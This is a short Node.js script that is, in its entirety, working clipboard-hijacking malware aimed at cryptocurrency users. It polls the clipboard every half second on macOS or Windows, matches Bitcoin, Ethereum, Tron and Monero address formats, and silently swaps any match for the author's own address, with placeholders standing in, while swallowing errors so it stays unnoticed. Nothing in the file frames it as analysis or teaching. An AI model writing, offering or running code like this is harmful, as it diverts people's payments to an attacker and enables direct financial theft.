'use strict';
const { execFileSync } = require('child_process');

const ours = {
  btc: 'bc1qplaceholderplaceholderplaceholder',
  eth: '0x0000000000000000000000000000000000000000',
  trx: 'TPLACEHOLDERPLACEHOLDERPLACEHOLDER',
  xmr: '4PLACEHOLDER'
};
const forms = {
  btc: /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$/,
  eth: /^0x[a-fA-F0-9]{40}$/,
  trx: /^T[A-Za-z1-9]{33}$/,
  xmr: /^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$/
};

const get = () => (process.platform === 'darwin' ? execFileSync('pbpaste') : execFileSync('powershell', ['-NoProfile', '-Command', 'Get-Clipboard'])).toString().trim();
const set = (text) => {
  if (process.platform === 'darwin') execFileSync('pbcopy', { input: text });
  else execFileSync('powershell', ['-NoProfile', '-Command', `Set-Clipboard -Value '${text}'`]);
};

setInterval(() => {
  try {
    const now = get();
    for (const coin of Object.keys(forms)) {
      if (forms[coin].test(now) && now !== ours[coin]) set(ours[coin]);
    }
  } catch (e) {}
}, 500);
